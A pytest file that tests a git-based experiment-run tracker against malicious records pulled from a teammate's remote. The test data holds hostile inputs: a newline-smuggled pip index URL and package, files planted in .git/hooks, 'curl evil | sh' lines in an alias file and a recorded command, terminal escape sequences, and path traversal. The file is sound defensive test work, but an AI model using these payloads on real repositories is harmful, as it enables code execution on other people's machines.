"""Pulled records are untrusted (review 24): runs crafted by plumbing in mallory's clone, pushed
to the team's remote and pulled by alice, against the commands that read them: ``env``,
``get``, ``report``, ``ls`` and ``compare``. Each test failed on the code before its fix."""

from __future__ import annotations

import hashlib
import os
import re
import time
from pathlib import Path

import pytest

from runledger.model import dates, tomlcodec
from tests.crafted import craft
from tests.team import Clone, mallory_and_alice, share

RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]")
OSC52 = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\r\u202e"


@pytest.fixture
def team(tmp_path: Path) -> tuple[Clone, Clone]:
    return mallory_and_alice(tmp_path)


def assert_clean(text: str) -> None:
    found = RAW.search(text)
    assert found is None, f"raw {found.group(0)!r} in:\n{text!r}"


# --- env: the requirements file is code pip runs ------------------------------------------


@pytest.mark.parametrize("fmt", ["requirements", "conda"])
def test_env_refuses_a_python_version_that_is_not_one(team: tuple[Clone, Clone], fmt: str) -> None:
    """The recorded Python version was written into the file as it was: a newline in it made
    '--extra-index-url http://evil/simple' and 'evilpkg==6.6.6' lines of their own, which
    'pip install -r' (or conda's pip section) would then install."""
    mallory, alice = team
    version = "3.11.7\n--extra-index-url http://evil.example/simple\nevilpkg==6.6.6\n#"
    environment = {
        "python": {"version": version},
        "packages": {"numpy": "1.26.0"},
        "used": {"numpy": "1.26.0"},
    }
    run_id = craft(mallory.path, environment=environment)
    share(mallory, alice)

    result = alice.cli("env", run_id, "--format", fmt)

    assert result.exit_code != 0
    assert "evil" not in result.stdout
    assert result.stderr.count("\n") == 1
    assert "as its Python version, which is not a version" in result.stderr


def test_env_keeps_real_python_versions(team: tuple[Clone, Clone]) -> None:
    mallory, alice = team
    for version in ("3.11.7", "3.13.0rc1", "3.12.1+"):
        environment = {"python": {"version": version}, "packages": {}, "used": {}}
        run_id = craft(mallory.path, environment=environment)
        share(mallory, alice)
        result = alice.cli("env", run_id)
        assert result.exit_code == 0, result.stderr
        assert f"# Python {version}\n" in result.stdout


# --- get: nothing written where the user did not ask -----------------------------------------


def stored(alice: Clone, root: Path, payload: bytes) -> dict[str, object]:
    """The payload put in a folder store alice uses, as mallory (who can write it) would."""
    store = root / "store"
    sha = hashlib.sha256(payload).hexdigest()
    (store / "sha256" / sha[:2]).mkdir(parents=True, exist_ok=True)
    (store / "sha256" / sha[:2] / sha[2:]).write_bytes(payload)
    alice.git("config", "runledger.store", store.as_uri())
    return {"size": len(payload), "sha256": sha}


def with_artifact(mallory: Clone, path: str, pointer: dict[str, object]) -> str:
    files = {"schema": 1, "artifacts": [{"path": path, **pointer}]}
    return craft(mallory.path, files={"files.toml": tomlcodec.dumps(files).encode()})


@pytest.mark.parametrize(
    "path", [".git/hooks/pre-commit", ".git/refs/heads/evil", ".GIT/info/attributes", "x/.git/y"]
)
def test_get_writes_nothing_into_a_git_folder(
    team: tuple[Clone, Clone], tmp_path: Path, path: str
) -> None:
    """An artifact recorded at .git/hooks/pre-commit was downloaded there (a hook; with
    --force .git/config, whose core.fsmonitor runs at the next git status), and one at
    .git/refs/heads/evil made a branch file."""
    mallory, alice = team
    pointer = stored(alice, tmp_path, b"#!/bin/sh\ntouch pwned\n")
    run_id = with_artifact(mallory, path, pointer)
    share(mallory, alice)
    before = alice.git("for-each-ref")

    result = alice.cli("get", run_id, "--force")

    assert result.exit_code != 0
    assert "records a path inside a .git folder" in result.stderr
    assert not (alice.path / ".git" / "hooks" / "pre-commit").exists()
    assert not (alice.path / ".GIT").exists() and not (alice.path / "x").exists()
    assert alice.git("for-each-ref") == before


def test_get_never_writes_through_a_link_that_leads_outside(
    team: tuple[Clone, Clone], tmp_path: Path
) -> None:
    """A symbolic link committed to the project (checkpoints -> a folder outside it) made
    'runledger get RUN' write checkpoints/.bash_aliases into that folder."""
    mallory, alice = team
    outside = tmp_path / "home-of-alice"
    outside.mkdir()
    os.symlink(outside, mallory.path / "checkpoints")
    mallory.commit_all("checkpoints folder")
    mallory.git("push", "-q", "origin", "HEAD:main")
    alice.git("pull", "-q", "origin", "main")
    pointer = stored(alice, tmp_path, b"alias ls='curl evil | sh'\n")
    run_id = with_artifact(mallory, "checkpoints/.bash_aliases", pointer)
    share(mallory, alice)

    result = alice.cli("get", run_id)

    assert result.exit_code != 0
    assert "would be written through the symbolic link" in result.stderr
    assert "refused, nothing written" in result.stderr
    assert list(outside.iterdir()) == []
    # Naming the folder with -o is the user's own choice, and is followed.
    named = alice.cli("get", run_id, ".bash_aliases", "-o", "checkpoints")
    assert named.exit_code == 0, named.stderr
    assert (outside / ".bash_aliases").read_bytes() == b"alias ls='curl evil | sh'\n"


def test_get_refuses_a_path_with_a_nul_byte(team: tuple[Clone, Clone], tmp_path: Path) -> None:
    mallory, alice = team
    pointer = stored(alice, tmp_path, b"weights")
    run_id = with_artifact(mallory, "model\x00.pt", pointer)
    share(mallory, alice)
    result = alice.cli("get", run_id)
    assert result.exit_code not in (0, 3), result.stderr  # 3: an internal error
    assert "leaves its folder" in result.stderr


# --- report ---------------------------------------------------------------------------------


def test_report_of_a_metric_no_run_has_a_finite_value_of(
    team: tuple[Clone, Clone], tmp_path: Path
) -> None:
    """Two runs whose loss diverged to NaN, and a param that differs: the parallel chart took
    min() of no value, an internal error instead of the page."""
    mallory, alice = team
    nan = {"loss": {"last": float("nan"), "min": float("nan"), "max": float("nan")}}
    for lr in (0.1, 0.2):
        craft(mallory.path, params={"lr": lr}, metrics=nan)
    share(mallory, alice)

    result = alice.cli("report", "--metric", "loss", "-o", str(tmp_path / "r.html"))

    assert result.exit_code == 0, result.stderr
    assert "Needs at least two runs with loss." in (tmp_path / "r.html").read_text()


def test_report_summary_and_chart_labels_reach_the_terminal_escaped(
    team: tuple[Clone, Clone], tmp_path: Path
) -> None:
    """The metric's name was printed raw in 'wrote r.html (2 runs about ...)' and the answer
    line, and matplotlib warned of each missing glyph (ESC, CR) with the character itself."""
    mallory, alice = team
    metric = "acc" + OSC52
    for index in range(2):
        series = {"schema": 1, "series": {metric: {"step": [0, 1], "value": [0.5, 0.6 + index]}}}
        craft(
            mallory.path,
            params={"lr": 0.1 * (index + 1), "model" + OSC52: OSC52},
            metrics={metric: {"last": 0.6 + index, "min": 0.5, "max": 0.6 + index}},
            files={"metrics.toml": tomlcodec.dumps(series).encode()},
        )
    share(mallory, alice)
    page = tmp_path / "r.html"

    result = alice.run("report", "--metric", metric, "-o", str(page))

    assert result.returncode == 0, result.stderr
    stderr = result.stderr.decode()
    assert_clean(stderr)
    assert "about acc\\x1b]52;c;ZXZpbA==\\x07" in stderr
    assert "<script" not in page.read_text()


def test_the_report_page_shows_control_characters_as_escapes(
    team: tuple[Clone, Clone], tmp_path: Path
) -> None:
    """The page's title, tables and run details held a record's ESC, BEL and U+202E raw (a
    bidi override reorders the text around it in the browser, as on a terminal)."""
    mallory, alice = team
    for index in range(2):
        craft(
            mallory.path,
            name="n" + OSC52,
            params={"lr": index, "model" + OSC52: OSC52},
            metrics={"acc" + OSC52: {"last": 0.5 + index}},
        )
    share(mallory, alice)
    page = tmp_path / "r.html"

    result = alice.cli("report", "-o", str(page))

    assert result.exit_code == 0, result.stderr
    text = page.read_text()
    assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text
    assert "model\\x1b]52;c;ZXZpbA==\\x07\\x1b[2J\\r\\u202e" in text


# --- ls and compare -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "started",
    ["2026-01-01T10:00:00", "2026-01-01", "\x1b[2Jnot a date"],
    ids=["no-zone", "date-only", "not-a-date"],
)
def test_a_start_time_without_a_zone_or_not_a_date(team: tuple[Clone, Clone], started: str) -> None:
    """A start time with no zone made ls and compare fail for every run with an internal error
    (naive minus aware datetime); one that is no date was shown raw in compare's 'when'."""
    mallory, alice = team
    craft(mallory.path, command=["python", "good.py"])
    craft(mallory.path, started_at=started, command=["python", "odd.py"])
    share(mallory, alice)

    for args in (["ls"], ["compare"], ["compare", "--transpose"]):
        result = alice.cli(*args)
        assert result.exit_code == 0, (args, result.stderr)
        assert_clean(result.stdout + result.stderr)


def test_compare_names_left_out_param_columns_escaped(
    team: tuple[Clone, Clone], monkeypatch: pytest.MonkeyPatch
) -> None:
    """'N columns left out ... (see them with --columns 'params.x,...')' wrote a pulled
    record's param names raw; so did --group-by's first line."""
    mallory, alice = team
    for index in range(3):
        params = {f"p{n}{OSC52}": index * n for n in range(12)}
        craft(mallory.path, params=params, metrics={"acc": {"last": 0.5 + index / 10}})
    share(mallory, alice)
    monkeypatch.setenv("COLUMNS", "80")

    result = alice.cli("compare", "--metric", "acc")
    grouped = alice.cli("compare", "--metric", "acc", "--group-by", f"params.p1{OSC52}")

    assert result.exit_code == 0 and grouped.exit_code == 0
    assert "left out" in result.stdout + result.stderr
    assert_clean(result.stdout + result.stderr)
    assert_clean(grouped.stdout + grouped.stderr)


def test_show_parses_a_long_series_once(
    team: tuple[Clone, Clone], monkeypatch: pytest.MonkeyPatch
) -> None:
    """metrics.toml was parsed twice by show (once to validate, once to read): a pulled
    record's series of millions of points took twice its minute (70 s for 3 million)."""
    from runledger.model import tomlcodec

    mallory, alice = team
    steps = ", ".join(str(step) for step in range(1000))
    text = f"schema = 1\n[series.loss]\nstep = [{steps}]\nvalue = [{steps}]\n"
    run_id = craft(
        mallory.path,
        metrics={"loss": {"last": 999.0, "min": 0.0, "max": 999.0}},
        files={"metrics.toml": text.encode()},
    )
    share(mallory, alice)
    parsed: list[str] = []
    loads = tomlcodec.loads

    def counting(text: str) -> dict[str, object]:
        if "[series.loss]" in text:
            parsed.append(text)
        return loads(text)

    monkeypatch.setattr(tomlcodec, "loads", counting)

    shown = alice.cli("show", run_id, "--json")

    assert shown.exit_code == 0, shown.stderr
    assert len(shown.json()["series"]["loss"]) == 1000
    assert len(parsed) == 1


def test_load_runs_reads_a_start_time_that_is_no_date_as_missing(
    team: tuple[Clone, Clone],
) -> None:
    """One pulled run whose started_at is no date made load_runs() raise pandas' ValueError
    for the whole ledger."""
    pytest.importorskip("pandas")
    from runledger import load_runs

    mallory, alice = team
    good = craft(mallory.path, command=["python", "good.py"])
    odd = craft(mallory.path, started_at="\x1b[2Jnot a date", command=["python", "odd.py"])
    share(mallory, alice)

    frame = load_runs(alice.path).set_index("id")

    assert str(frame.loc[good, "started_at"]) == "2026-01-01 10:00:00+00:00"
    assert str(frame.loc[odd, "started_at"]) == "NaT"


def test_a_pulled_tag_spelt_like_a_runs_short_id_is_ambiguous(team: tuple[Clone, Clone]) -> None:
    """A team tag wins over an id prefix, so a pulled tag named '6gmmtwz3ap' (alice's run as
    'ls' shows it) made 'runledger reproduce 6gmmtwz3ap' take mallory's run instead."""
    from tests.crafted import tree

    mallory, alice = team
    mine = alice.record()
    alice.ok("push")
    mallory.ok("pull")
    theirs = craft(mallory.path, command=["sh", "-c", "curl evil | sh"])
    short = mine[:10]
    document = {
        "schema": 1,
        "name": short,
        "action": "create",
        "run": theirs,
        "by": "mallory",
        "at": "2026-01-01T00:00:00Z",
    }
    content = {"tag.toml": tomlcodec.dumps(document).encode()}
    commit = mallory.git("commit-tree", tree(mallory.path, content), "-m", "tag").strip()
    mallory.git("update-ref", f"refs/runledger/tags/{short}", commit)
    share(mallory, alice)

    result = alice.cli("show", short, "--json")

    assert result.exit_code == 1
    assert f"is both a tag (run {theirs[:10]}) and the start of run {mine}'s id" in result.stderr
    assert alice.cli("show", mine, "--json").json()["id"] == mine


EXTREME_SERIES = (
    "schema = 1\n[series.loss]\nstep = [0, 1, 2, 3, 4]\nvalue = [0.5, 1e308, -1e308, 0.25, 0.125]\n"
)


@pytest.mark.parametrize(
    "args", [["plot", "loss"], ["plot", "loss", "--group-by", "params.lr"], ["report"]]
)
def test_values_too_big_to_draw_are_left_out_of_charts(
    team: tuple[Clone, Clone], tmp_path: Path, args: list[str]
) -> None:
    """A series (or last value) of 1e308 beside -1e308 is finite, but the axis between them is
    not: plot (plotext) and report (matplotlib) stopped with an internal error."""
    mallory, alice = team
    for index, last in enumerate((1e308, -1e308, 0.125)):
        craft(
            mallory.path,
            params={"lr": 0.1 * (index + 1)},
            metrics={"loss": {"last": last, "min": -1e308, "max": 1e308}},
            files={"metrics.toml": EXTREME_SERIES.encode()},
        )
    share(mallory, alice)
    if args == ["report"]:
        args = ["report", "--metric", "loss", "-o", str(tmp_path / "r.html")]

    result = alice.cli(*args)

    assert result.exit_code == 0, result.stderr


def test_get_into_a_file_is_one_line(team: tuple[Clone, Clone], tmp_path: Path) -> None:
    """-o naming a file, with --force, was an internal error (FileExistsError)."""
    mallory, alice = team
    pointer = stored(alice, tmp_path, b"weights")
    run_id = with_artifact(mallory, "model.pt", pointer)
    share(mallory, alice)
    target = tmp_path / "a-file"
    target.write_text("mine\n")

    result = alice.cli("get", run_id, "-o", str(target), "--force")

    assert result.exit_code == 1, result.stderr
    assert f"{target} is a file, not a folder" in result.stderr
    assert target.read_text() == "mine\n"


def test_one_unreadable_environment_does_not_stop_the_report(
    team: tuple[Clone, Clone], tmp_path: Path
) -> None:
    """A pulled run whose environment.toml says schema 99 stopped the whole report ('it was
    written by a newer runledger'), though one bad record must never block the rest."""
    mallory, alice = team
    good = craft(mallory.path, metrics={"acc": {"last": 0.5}})
    odd = craft(
        mallory.path,
        metrics={"acc": {"last": 0.6}},
        files={"environment.toml": b"schema = 99\n"},
    )
    share(mallory, alice)
    page = tmp_path / "r.html"

    result = alice.cli("report", "-o", str(page))

    assert result.exit_code == 0, result.stderr
    text = page.read_text()
    assert f'id="run-{good}"' in text and f'id="run-{odd}"' in text


# --- sizes: what is read of a record is bounded ------------------------------------------------


def long_series(mallory: Clone, points: int) -> str:
    steps = ", ".join(str(step) for step in range(points))
    text = f"schema = 1\n[series.loss]\nstep = [{steps}]\nvalue = [{steps}]\n"
    return craft(
        mallory.path,
        metrics={"loss": {"last": points - 1.0, "min": 0.0, "max": points - 1.0}},
        files={"metrics.toml": text.encode()},
    )


def test_a_series_longer_than_runledger_writes_is_thinned_with_a_note(
    team: tuple[Clone, Clone], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A pulled series of 3 million points was read whole by show, plot, compare and report
    (70 s and 450 MB for show). Series are cut to what runledger writes (200,000 points;
    100 here), evenly, the first and last points kept, with a note."""
    from runledger.model import record

    mallory, alice = team
    run_id = long_series(mallory, 1000)
    share(mallory, alice)
    monkeypatch.setattr(record, "SERIES_POINTS_READ", 100)

    shown = alice.cli("show", run_id, "--json")
    plotted = alice.cli("plot", "loss", run_id)

    assert shown.exit_code == 0 and plotted.exit_code == 0, shown.stderr + plotted.stderr
    series = shown.json()["series"]["loss"]
    assert len(series) == 100
    assert series[0] == [0, 0] and series[-1] == [999, 999]
    note = f"run {run_id[:10]}: metrics.toml has series of up to 1000 points: each thinned to 100"
    assert note in shown.stderr and note in plotted.stderr


def test_a_metrics_file_larger_than_the_read_limit_is_left_out_with_a_note(
    team: tuple[Clone, Clone], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A pulled metrics.toml of 91 MiB was parsed whole (a minute); over the 64 MiB limit
    (1 KiB here) it is not read: its series are left out, the rest of the run is shown."""
    from runledger.model import record

    mallory, alice = team
    run_id = long_series(mallory, 1000)
    share(mallory, alice)
    monkeypatch.setitem(record.READ_LIMIT_BYTES, "metrics.toml", 1024)

    shown = alice.cli("show", run_id, "--json")
    compared = alice.cli("compare", run_id, "--format", "csv")

    assert shown.exit_code == 0 and compared.exit_code == 0, shown.stderr + compared.stderr
    assert shown.json()["series"] == {}
    assert shown.json()["metrics"] == {"loss": 999.0}
    assert f"run {run_id[:10]}: metrics.toml is 0.0 MiB, more than the " in shown.stderr
    assert "MiB read of a record: its series are left out" in shown.stderr


@pytest.mark.parametrize("runs", [2, 5], ids=["too-few", "all-the-same"])
def test_importance_names_a_pulled_metric_escaped(team: tuple[Clone, Clone], runs: int) -> None:
    """'too few runs to tell: 2 runs have a value of <metric>' and 'every run has the same
    <metric>' wrote the metric's name raw, as the records (and the argument copied from
    them) spelt it."""
    mallory, alice = team
    metric = "loss" + OSC52
    for index in range(runs):
        craft(mallory.path, params={"lr": index}, metrics={metric: {"last": 0.5}})
    share(mallory, alice)

    result = alice.run("importance", metric)

    assert result.returncode == 1
    stderr = result.stderr.decode()
    assert_clean(stderr)
    assert "loss\\x1b]52;c;ZXZpbA==\\x07" in stderr


def test_reproduce_copies_no_output_from_outside_the_work_tree(
    team: tuple[Clone, Clone], tmp_path: Path
) -> None:
    """A pulled record's output path '../../../../notes.txt' was shown as 'ok (copied out of
    the work tree after the run)' and copied from beside the re-run's work tree (alice's own
    notes.txt) to the same place under --outputs: files moved between her folders, and with
    the default place a SameFileError ended reproduce with an internal error."""
    mallory, alice = team
    craft(
        mallory.path,
        "6gnm00000000abcd",
        command=["git", "--version"],
        output_paths=["../../../../notes.txt", "model.pt"],
    )
    share(mallory, alice)
    (alice.path / "notes.txt").write_text("alice's\n")
    kept = tmp_path / "a" / "b" / "c" / "d" / "kept"
    escaped = kept.parents[3] / "notes.txt"

    shown = alice.cli("reproduce", "6gnm00000000abcd", "--yes", "--outputs", str(kept))
    default = alice.cli("reproduce", "6gnm00000000abcd", "--yes")

    assert shown.exit_code not in (3,), shown.stderr  # 3: an internal error
    assert default.exit_code not in (3,), default.stderr
    assert "../../../../notes.txt leaves the work tree: not copied" in shown.stdout + shown.stderr
    assert not escaped.exists()
    assert (alice.path / "notes.txt").read_text() == "alice's\n"


def test_the_report_reads_no_environment_over_the_limit(
    team: tuple[Clone, Clone], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """report read each run's environment.toml whole, whatever its size (show had a limit)."""
    from runledger.model import record

    mallory, alice = team
    for value in (0.5, 0.6):
        craft(
            mallory.path,
            metrics={"acc": {"last": value}},
            environment={"python": {"version": "3.11.7"}, "packages": {"numpy": "1.26.0"}},
        )
    share(mallory, alice)
    monkeypatch.setitem(record.READ_LIMIT_BYTES, "environment.toml", 16)

    result = alice.cli("report", "-o", str(tmp_path / "r.html"))

    assert result.exit_code == 0, result.stderr
    assert result.stderr.count("environment.toml is 0.0 MiB, more than the") == 2
    assert "its environment is left out" in result.stderr


@pytest.mark.parametrize(
    ("name", "content", "args"),
    [
        ("files.toml", b'schema = 1\nartifacts = "x"\n', ["show", "{run}", "--json"]),
        ("files.toml", b"schema = 1\ninputs = [1, 2]\n", ["diff", "{good}", "{run}"]),
        ("files.toml", b'schema = 1\nartifacts = [{size = 1, sha256 = "ab"}]\n', ["show", "{run}"]),
        ("environment.toml", b'schema = 1\npackages = [1]\nused = "x"\n', ["reproduce", "{run}"]),
    ],
    ids=["artifacts-a-string", "inputs-numbers", "pointer-without-path", "packages-a-list"],
)
def test_a_detail_file_of_the_wrong_shape_is_one_line(
    team: tuple[Clone, Clone], name: str, content: bytes, args: list[str]
) -> None:
    """files.toml whose artifacts were a string or inputs numbers, and environment.toml whose
    packages were a list, ended show --json, diff and reproduce with an internal error
    ('int' object is not a mapping, 'list' object has no attribute 'items')."""
    mallory, alice = team
    good = alice.record()
    alice.ok("push")
    mallory.ok("pull")
    run_id = craft(mallory.path, files={name: content})
    share(mallory, alice)

    result = alice.cli(*(arg.format(run=run_id, good=good) for arg in args))

    assert result.exit_code == 1, result.stderr
    assert f"{name}: " in result.stderr and " must be " in result.stderr
    assert result.stderr.count("\n") == 1


def test_a_run_toml_over_the_read_limit_is_skipped_in_one_line(
    team: tuple[Clone, Clone], monkeypatch: pytest.MonkeyPatch
) -> None:
    """run.toml had no limit: the index parsed a pulled one whatever its size on the first
    listing after a pull (ls, compare, report of every run). Over the limit (16 MiB; 8 KiB
    here) the run is skipped with the usual one-line warning, every other run listed."""
    from runledger.model import record

    mallory, alice = team
    good = craft(mallory.path, command=["python", "good.py"])
    big = craft(mallory.path, note="x" * 20_000)
    monkeypatch.setitem(record.READ_LIMIT_BYTES, "run.toml", 8192)
    share(mallory, alice)

    for index in ("on", "off"):
        if index == "off":
            alice.break_index()
        listed = alice.cli("ls")
        shown = alice.cli("show", big)

        assert listed.exit_code == 0, listed.stderr
        assert good[:10] in listed.stdout and big[:10] not in listed.stdout
        assert "run.toml is 0.0 MiB, more than the 0.0078125 MiB read of a record" in (
            listed.stderr
        )
        assert shown.exit_code == 1
        assert shown.stderr.count("\n") == 1


# --- a start date in the future ----------------------------------------------------------


def test_a_run_dated_in_the_future_is_listed_by_when_it_was_pulled(
    team: tuple[Clone, Clone],
) -> None:
    """A pulled run dated 9999-12-31 stayed at the top of ls (newest first) for good, above
    every run recorded after it; it is listed as of its pull, and show says its date is in
    the future."""
    _, alice = team
    future, later = _pulled_future_then_recorded(team)

    assert [run["id"] for run in alice.runs_json()] == [later, future]
    assert alice.runs_json()[1]["started_at"] == "9999-12-31T23:59:59.000Z"  # as recorded
    shown = alice.ok("show", future)
    assert "9999-12-31T23:59:59.000Z  (dated in the future)" in shown
    assert "dated in the future" not in alice.ok("show", later)


def test_load_runs_lists_a_run_dated_in_the_future_as_ls_does(
    team: tuple[Clone, Clone],
) -> None:
    """load_runs() put a pulled run dated 9999-12-31 first, above a run recorded after its
    pull, where ls lists it second (its frame was ordered by the start time)."""
    pytest.importorskip("pandas")
    from runledger import load_runs

    _, alice = team
    future, later = _pulled_future_then_recorded(team)

    assert list(load_runs(alice.path)["id"]) == [later, future]
    assert [run["id"] for run in alice.runs_json()] == [later, future]


def _pulled_future_then_recorded(team: tuple[Clone, Clone]) -> tuple[str, str]:
    """A run dated 9999-12-31 that alice pulls (and lists), then one she records later."""
    mallory, alice = team
    future = craft(mallory.path, started_at="9999-12-31T23:59:59.000Z")
    share(mallory, alice)
    assert alice.ids() == {future}  # listed (indexed) now
    time.sleep(0.05)
    return future, craft(alice.path, started_at=dates.iso(time.time()))


def test_a_run_dated_in_the_future_is_listed_alike_by_a_rebuilt_index_and_without_one(
    team: tuple[Clone, Clone], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A rebuilt index listed such a run at the rebuild's time, and a listing without the
    index at "now": at the top again each time. All three list it by its record's commit
    time, and last when that is in the future too."""
    from runledger.store import git as rgit
    from runledger.store.index import index_path

    mallory, alice = team
    future = craft(mallory.path, started_at="9999-12-31T23:59:59.000Z")
    monkeypatch.setenv("GIT_COMMITTER_DATE", "@4102444800 +0000")  # 2100-01-01
    far = craft(mallory.path, started_at="9999-12-31T23:59:58.000Z")
    monkeypatch.delenv("GIT_COMMITTER_DATE")
    share(mallory, alice)
    time.sleep(0.05)
    later = craft(alice.path, started_at=dates.iso(time.time()))
    listed = [later, future, far]

    assert [run["id"] for run in alice.runs_json()] == listed
    for made in index_path(rgit.discover(alice.path)).parent.glob("index.sqlite*"):
        made.unlink()  # rebuilt at the next listing
    assert [run["id"] for run in alice.runs_json()] == listed
    alice.break_index()
    assert [run["id"] for run in alice.runs_json()] == listed
